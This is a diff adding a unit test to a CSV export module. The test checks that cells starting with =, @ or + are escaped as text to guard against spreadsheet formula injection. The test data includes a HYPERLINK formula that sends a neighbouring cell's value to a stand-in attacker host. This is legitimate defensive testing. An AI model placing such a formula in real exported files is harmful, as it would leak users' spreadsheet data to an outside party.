@@ -39,6 +39,19 @@ describe('eventsCsv (docs/csv-export.md)', () => {
     expect(csv.split('\r\n')[1]!.startsWith('"A, ""B""\nC",')).toBe(true);
   });
 
+  it('writes a cell a spreadsheet would run as a formula as text', () => {
+    const row = eventsCsv([
+      event({
+        title: '=HYPERLINK("https://evil.example/?"&B2,"x")',
+        venue: { venue: '@SUM(1)' },
+        tags: [{ name: '+1' }, { name: 'safe' }],
+      }),
+    ]).split('\r\n')[1]!;
+    expect(row.startsWith(`"'=HYPERLINK(""https://evil.example/?""&B2,""x"")",`)).toBe(true);
+    expect(row).toContain(`,'@SUM(1),`);
+    expect(row).toContain(`,"'+1, safe",`);
+  });
+
   it('leaves the times of an all-day event empty', () => {
     const row = eventsCsv([event({ all_day: true })]).split('\r\n')[1]!;
     expect(row).toContain(',2027-03-04,,2027-03-04,,Europe/Paris,TRUE,');
